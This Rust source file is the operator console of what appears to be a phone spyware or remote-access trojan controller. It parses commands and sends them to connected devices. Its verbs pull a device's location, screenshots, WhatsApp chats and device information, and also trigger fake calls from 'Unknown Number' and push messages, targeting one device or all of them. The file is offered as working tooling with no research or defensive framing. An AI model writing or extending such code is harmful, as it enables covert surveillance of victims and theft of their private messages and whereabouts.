//! Operator console.
//!
//! Reads one command per line, turns it into a [`ConsoleCommand`] and runs
//! it against the registry and dispatcher. Usage mistakes and unknown
//! targets are printed back to the operator; nothing here is fatal.
//!
//! ```text
//! list                      show connected devices
//! msg <id|all> <text>       SHOW_MESSAGE
//! call <id|all>             FAKE_CALL
//! location <id|all>         GET_LOCATION
//! screenshot <id|all>       CAPTURE_SCREENSHOT
//! whatsapp <id|all>         GET_WHATSAPP_CHATS
//! info <id|all>             GET_DEVICE_INFO
//! broadcast <text>          SHOW_MESSAGE to all
//! disconnect <id|all>       close session(s)
//! help                      this text
//! exit                      shut down
//! ```

use std::fmt::Write as _;

use tokio::io::{AsyncBufRead, AsyncBufReadExt, AsyncWrite, AsyncWriteExt};
use tokio_util::sync::CancellationToken;
use tracing::{debug, info};

use crate::coordinator::dispatcher::{DispatchOutcome, Dispatcher, Target};
use crate::coordinator::registry::SessionRegistry;
use crate::protocol::{Command, CommandKind};
use crate::{AppError, Result};

/// Caller label used by the `call` verb.
pub const FAKE_CALLER: &str = "Unknown Number";

/// Help text printed by `help` and at startup.
pub const HELP_TEXT: &str = "\
💬 ** DEVICE RELAY CONTROL **
  list                    - Show connected devices
  msg [id|all] [text]     - Send message to device
  call [id|all]           - Make fake call
  location [id|all]       - Get device location
  screenshot [id|all]     - Capture screen
  whatsapp [id|all]       - Get WhatsApp chats
  info [id|all]           - Get device information
  broadcast [text]        - Send message to all devices
  disconnect [id|all]     - Close device session
  help                    - Show this help
  exit                    - Shut down server";

/// A parsed console line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ConsoleCommand {
    /// Show the registry.
    List,
    /// Send a command frame.
    Dispatch {
        /// Addressee.
        target: Target,
        /// Frame to send.
        command: Command,
    },
    /// Close one or all sessions.
    Disconnect(Target),
    /// Print the help text.
    Help,
    /// Stop the coordinator.
    Exit,
}

/// Parse one console line. Blank lines yield `Ok(None)`.
///
/// # Errors
///
/// Returns [`AppError::Protocol`] with a usage message for unknown verbs or
/// missing arguments.
pub fn parse_line(line: &str) -> Result<Option<ConsoleCommand>> {
    let (verb, rest) = split_word(line);
    if verb.is_empty() {
        return Ok(None);
    }

    let command = match verb.to_lowercase().as_str() {
        "list" => ConsoleCommand::List,
        "help" => ConsoleCommand::Help,
        "exit" => ConsoleCommand::Exit,
        "msg" => {
            let (target, text) = split_word(rest);
            if target.is_empty() || text.is_empty() {
                return Err(usage("msg [device_id] [message]"));
            }
            ConsoleCommand::Dispatch {
                target: target.parse()?,
                command: Command::with_payload(CommandKind::ShowMessage, text),
            }
        }
        "broadcast" => {
            if rest.is_empty() {
                return Err(usage("broadcast [message]"));
            }
            ConsoleCommand::Dispatch {
                target: Target::All,
                command: Command::with_payload(CommandKind::ShowMessage, rest),
            }
        }
        "call" => targeted(rest, "call", Command::with_payload(CommandKind::FakeCall, FAKE_CALLER))?,
        "location" => targeted(rest, "location", Command::bare(CommandKind::GetLocation))?,
        "screenshot" => targeted(rest, "screenshot", Command::bare(CommandKind::CaptureScreenshot))?,
        "whatsapp" => targeted(rest, "whatsapp", Command::bare(CommandKind::GetWhatsappChats))?,
        "info" => targeted(rest, "info", Command::bare(CommandKind::GetDeviceInfo))?,
        "disconnect" => {
            let (target, _) = split_word(rest);
            if target.is_empty() {
                return Err(usage("disconnect [device_id]"));
            }
            ConsoleCommand::Disconnect(target.parse()?)
        }
        other => {
            return Err(AppError::Protocol(format!(
                "unknown command '{other}', type 'help' for the list"
            )))
        }
    };

    Ok(Some(command))
}

/// Console front end over a registry.
#[derive(Debug, Clone)]
pub struct Console {
    registry: SessionRegistry,
    dispatcher: Dispatcher,
}

impl Console {
    /// Create a console over `registry`.
    #[must_use]
    pub fn new(registry: SessionRegistry) -> Self {
        let dispatcher = Dispatcher::new(registry.clone());
        Self {
            registry,
            dispatcher,
        }
    }

    /// Run `command` and return the text to show the operator.
    pub async fn execute(&self, command: &ConsoleCommand) -> String {
        match command {
            ConsoleCommand::List => self.render_list().await,
            ConsoleCommand::Help => HELP_TEXT.to_owned(),
            ConsoleCommand::Exit => "🛑 Shutting down server...".to_owned(),
            ConsoleCommand::Dispatch { target, command } => {
                let outcome = self.dispatcher.dispatch(target, command).await;
                render_outcome(target, command.kind(), &outcome)
            }
            ConsoleCommand::Disconnect(target) => self.disconnect(target).await,
        }
    }

    /// Read commands from `input` until `exit`, end of input, or `cancel`.
    ///
    /// # Errors
    ///
    /// Returns [`AppError::Io`] if reading input or writing output fails.
    pub async fn run<R, W>(&self, input: R, mut output: W, cancel: CancellationToken) -> Result<()>
    where
        R: AsyncBufRead + Unpin,
        W: AsyncWrite + Unpin,
    {
        let mut lines = input.lines();

        loop {
            let line = tokio::select! {
                () = cancel.cancelled() => {
                    debug!("console: cancellation received, stopping");
                    return Ok(());
                }
                line = lines.next_line() => {
                    line.map_err(|err| AppError::Io(format!("failed to read console input: {err}")))?
                }
            };

            let Some(line) = line else {
                info!("console input closed");
                return Ok(());
            };

            let (reply, exit) = match parse_line(&line) {
                Ok(None) => continue,
                Ok(Some(command)) => {
                    let exit = command == ConsoleCommand::Exit;
                    (self.execute(&command).await, exit)
                }
                Err(AppError::Protocol(msg)) => (format!("❌ {msg}"), false),
                Err(err) => (format!("❌ {err}"), false),
            };

            write_line(&mut output, &reply).await?;
            if exit {
                return Ok(());
            }
        }
    }

    async fn render_list(&self) -> String {
        let sessions = self.registry.snapshot().await;
        let mut text = format!("📱 Connected Devices: {}", sessions.len());
        for (device_id, session) in &sessions {
            let label = session.label().unwrap_or_else(|| "unidentified".to_owned());
            let _ = write!(
                text,
                "\n   {device_id} - {} - {label} - last seen {}",
                session.peer(),
                session.last_seen().format("%H:%M:%S"),
            );
        }
        text
    }

    async fn disconnect(&self, target: &Target) -> String {
        let sessions = match target {
            Target::Device(device_id) => match self.registry.lookup(device_id).await {
                Some(session) => vec![session],
                None => return format!("❌ Device not found: {device_id}"),
            },
            Target::All => self
                .registry
                .snapshot()
                .await
                .into_iter()
                .map(|(_, session)| session)
                .collect(),
        };

        let closed = sessions.iter().filter(|session| session.disconnect()).count();
        info!(%target, closed, "operator disconnect");
        format!("🔌 Disconnected {closed} device(s)")
    }
}

/// Render a dispatch outcome for the operator.
#[must_use]
pub fn render_outcome(target: &Target, kind: CommandKind, outcome: &DispatchOutcome) -> String {
    let (delivered, failed) = match outcome {
        DispatchOutcome::TargetNotFound(device_id) => {
            return format!("❌ Device not found: {device_id}");
        }
        DispatchOutcome::Sent { delivered, failed } => (delivered, failed),
    };

    let mut text = match target {
        Target::All => format!("📢 Sent to {} device(s)", delivered.len()),
        Target::Device(device_id) if !delivered.is_empty() => {
            format!("{} {device_id}", action_text(kind))
        }
        Target::Device(_) => String::new(),
    };

    for (device_id, reason) in failed {
        if !text.is_empty() {
            text.push('\n');
        }
        let _ = write!(text, "⚠️ Failed to reach {device_id}: {reason}");
    }
    text
}

// ── Private helpers ───────────────────────────────────────────────────────────

fn action_text(kind: CommandKind) -> &'static str {
    match kind {
        CommandKind::ShowMessage => "💬 Message sent to",
        CommandKind::FakeCall => "📞 Fake call to",
        CommandKind::GetLocation => "📍 Requesting location from",
        CommandKind::GetDeviceInfo => "📊 Requesting device info from",
        CommandKind::CaptureScreenshot => "📸 Requesting screenshot from",
        CommandKind::GetWhatsappChats => "💬 Requesting WhatsApp chats from",
    }
}

fn targeted(rest: &str, verb: &str, command: Command) -> Result<ConsoleCommand> {
    let (target, _) = split_word(rest);
    if target.is_empty() {
        return Err(usage(&format!("{verb} [device_id]")));
    }
    Ok(ConsoleCommand::Dispatch {
        target: target.parse()?,
        command,
    })
}

fn usage(text: &str) -> AppError {
    AppError::Protocol(format!("usage: {text}"))
}

/// Split off the first whitespace-delimited word; the remainder is trimmed.
fn split_word(text: &str) -> (&str, &str) {
    let text = text.trim();
    match text.split_once(char::is_whitespace) {
        Some((word, rest)) => (word, rest.trim()),
        None => (text, ""),
    }
}

async fn write_line<W: AsyncWrite + Unpin>(output: &mut W, text: &str) -> Result<()> {
    output
        .write_all(format!("{text}\n").as_bytes())
        .await
        .map_err(|err| AppError::Io(format!("failed to write console output: {err}")))?;
    output
        .flush()
        .await
        .map_err(|err| AppError::Io(format!("failed to flush console output: {err}")))
}
